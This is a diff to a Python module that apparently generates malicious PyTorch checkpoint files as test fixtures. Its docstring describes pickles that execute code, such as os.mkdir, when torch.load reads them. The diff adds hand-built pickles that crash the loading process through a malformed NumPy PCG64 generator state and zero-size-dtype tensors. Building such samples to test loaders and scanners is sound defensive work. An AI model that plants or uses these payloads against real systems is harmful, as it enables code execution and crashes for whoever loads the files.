@@ -1,7 +1,7 @@
 """Checkpoints that run something when torch.load reads them: each makes the folder PWNED where it is loaded.
 
 `WAYS` are pickled expressions that call os.mkdir, `FUNCTIONS` some that call what does as much harm, and `PLACES` are
-files with such an expression at some place in them.
+files with such an expression at some place in them. `ENDINGS` run nothing, but end the process.
 """
 
 import io
@@ -346,6 +346,22 @@ def safetensors_and_pickle(length, first):
     return struct.pack("<Q", length) + header.encode().ljust(length) + data
 
 
+def random_generator(made_by):
+    """One of NumPy with a state, which its C code writes to where its __init__ would have had it."""
+    seed = b"}" + text("state") + b"K\1s" + text("inc") + b"K\1s"
+    state = b"}" + text("bit_generator") + text("PCG64") + b"s" + text("state") + seed + b"s"
+    state += text("has_uint32") + b"K\0s" + text("uinteger") + b"K\0s"
+    return name_of("numpy.random._pcg64", "PCG64") + b")" + made_by + state + b"b"
+
+
+def tensor_of_array(code):
+    """Made of elements by whose size torch divides."""
+    kind = call(name_of("numpy", "dtype"), text(code), b"\x89\x88") + b"(K\3" + text("|") + b"NNNK\0K\1K\0tb"
+    array = call(name_of("numpy.core.multiarray", "_reconstruct"), name_of("numpy", "ndarray"), b"K\0\x85", text("b"))
+    array += b"(K\1K\4\x85" + kind + b"\x89" + call(name_of("_codecs", "encode"), text(""), text("latin1")) + b"tb"
+    return call(name_of("torch._utils", "_rebuild_xla_tensor"), array, name_of("torch", "uint8"), text("cpu"), b"\x89")
+
+
 COMPUTED_MAGIC = call(name_of("builtins", "int"), text(str(0x1950A86A20F9469CFC6C)))
 
 PLACES = {
@@ -397,12 +413,22 @@ PLACES = {
 }  # fmt: skip
 
 
+ENDINGS = {
+    "bare_generator": torch_zip(random_generator(b"\x81")),
+    "bare_generator_with_keywords": torch_zip(random_generator(b"}\x92"), 4),
+    "bare_generator_used": torch_zip(call(name_of("numpy.random._pickle", "__randomstate_ctor"), random_generator(b"\x81"))),
+    "elements_of_no_size": torch_zip(tensor_of_array("S0")),
+    "records_of_no_size": torch_zip(tensor_of_array("V0")),
+}  # fmt: skip
+
+
 def write(folder):
     """{name of the file: its bytes}, written there."""
     files = {f"way_{name}.pth": torch_zip(body, 4) for name, body in WAYS.items()}
     files |= {f"old_way_{name}.pth": old_stream(value=body, protocol=4) for name, body in WAYS.items()}
     files |= {f"function_{name}.pth": torch_zip(body, 4) for name, body in FUNCTIONS.items()}
     files |= {f"place_{name}.pth": data for name, data in PLACES.items()}
+    files |= {f"ends_{name}.pth": data for name, data in ENDINGS.items()}
     for name, data in files.items():
         (folder / name).write_bytes(data)
     return sorted(files)
